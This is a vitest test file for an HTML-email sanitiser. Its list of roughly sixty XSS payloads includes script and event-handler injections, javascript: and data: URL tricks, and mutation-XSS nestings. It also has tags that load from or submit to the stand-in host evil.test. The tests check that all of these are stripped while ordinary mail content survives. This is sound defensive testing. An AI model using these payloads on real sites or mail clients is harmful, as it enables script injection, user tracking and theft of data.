import { describe, expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

/** Each tries to run, to load, or to draw over the page, in a way that some mail program or sanitiser has let through. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="\u0000javascript:alert(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.test"></object>',
  '<embed src="https://evil.test">',
  '<form action="https://evil.test"><input name=a><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import url(https://evil.test/x.css)</style>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<table background="https://evil.test/x"><tr><td>x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.test/x">',
  '<img srcset="https://evil.test/x 1x">',
  '<img src="https://evil.test/x.gif">',
  '<img src="http://evil.test/x.gif" style="display:none">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="javascript:alert(1)">',
  '<picture><source srcset="https://evil.test/x"></picture>',
  '<video src="https://evil.test/x" autoplay onplay=alert(1)></video>',
  '<audio src="https://evil.test/x" autoplay></audio>',
  '<input type=image src="https://evil.test/x">',
  '<isindex type=image src="https://evil.test/x">',
  '<frameset><frame src="https://evil.test"></frameset>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div onmouseover=alert(1)>x</div>',
  '<svg><use href="https://evil.test/x.svg#a"/></svg>',
  '<svg><image href="https://evil.test/x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<p id=main class=skip>x</p>',
  '<a href="https://a.test" ping="https://evil.test" onclick=alert(1)>x</a>',
  '<<script>script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<a href=" javascript:alert(1)">x</a>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<plaintext><img src=x onerror=alert(1)>',
]

describe('HTML mail', () => {
  test.each(hostile)('runs and loads nothing: %s', (html) => {
    const safe = safeHtml(html) ?? ''
    expect(safe).not.toMatch(
      /<\/?(script|style|svg|math|iframe|object|embed|form|input|base|meta|link|template|frame|video|audio|source|textarea|title|button|select|noscript|xmp|plaintext)\b/i,
    )
    expect(safe).not.toMatch(/<[^>]*\s(on\w+|style|class|id|srcset|background|ping|action|xlink:href)\s*=/i)
    expect(safe).not.toMatch(/\s(src|href)="(?!cid:|https?:\/\/|mailto:)/i)
    expect(safe).not.toMatch(/<img[^>]*\ssrc="(?!cid:)/i)
  })

  test('keeps what people write, its own pictures, and the addresses of others’', () => {
    const html =
      '<p>Dear <b>team</b>, see <a href="https://shop.example/a?b=1&amp;c=2">this</a>.</p><img src="cid:pole@1" alt="pole"><img src="https://cdn.example/a.png" width="10">'
    expect(safeHtml(html)).toBe(
      '<p>Dear <b>team</b>, see <a href="https://shop.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">this</a>.</p><img src="cid:pole@1" alt="pole" /><img data-remote="https://cdn.example/a.png" alt="" width="10" />',
    )
  })

  test('of a size that only a program writes is left to its text', () => {
    expect(safeHtml('x'.repeat(1_000_001))).toBeNull()
    expect(safeHtml('<div>'.repeat(100_000))).toBeNull()
    expect(safeHtml('<div>'.repeat(900))).toContain('<div>')
  })
})
